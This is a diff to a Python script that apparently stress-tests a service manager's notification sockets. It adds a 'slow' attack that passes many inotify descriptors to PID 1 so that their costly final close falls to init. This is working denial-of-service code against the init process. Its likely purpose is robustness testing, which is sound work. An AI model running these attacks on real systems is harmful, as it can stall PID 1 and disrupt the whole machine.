@@ -4,6 +4,7 @@
 ADDRESS is that of a socket, "/path" or "@abstract"; "notify" stands for $NOTIFY_SOCKET. With UID, that user does it.
 """
 import array
+import ctypes
 import itertools
 import os
 import random
@@ -160,6 +161,31 @@ def passes(kind, data):
     return attack
 
 
+def watching(count):
+    """Descriptors of inotify(7), whose last close waits for the kernel: milliseconds each, and a user may have 128."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    descriptors = []
+    while len(descriptors) < count and (descriptor := libc.inotify_init1(0)) >= 0:
+        libc.inotify_add_watch(descriptor, b"/", 0x100)
+        descriptors.append(descriptor)
+    return descriptors
+
+
+def sends_slow(kind, data):
+    def attack(address):
+        """PID 1 has the last descriptor of each, and there are always some on their way."""
+        sender = socket.socket(socket.AF_UNIX, kind)
+        sender.connect(address)
+        for _ in rounds(50):
+            descriptors = watching(12)
+            if kind == socket.SOCK_SEQPACKET:
+                sender = connect(address)
+            ignoring(sender.sendmsg, [data], rights(descriptors))
+            for descriptor in descriptors:
+                os.close(descriptor)
+    return attack
+
+
 ATTACKS = {
     "datagrams": datagrams,
     "malformed": malformed,
@@ -172,6 +198,8 @@ ATTACKS = {
     "lingering-notices": passes(socket.SOCK_DGRAM, b"STATUS=x"),
     "lingering-requests": passes(socket.SOCK_SEQPACKET, b"show"),
     "lingering-nothing": passes(socket.SOCK_SEQPACKET, b""),
+    "slow-notices": sends_slow(socket.SOCK_DGRAM, b"STATUS=x"),
+    "slow-requests": sends_slow(socket.SOCK_SEQPACKET, b"show"),
 }
 
 if len(sys.argv) > 3:
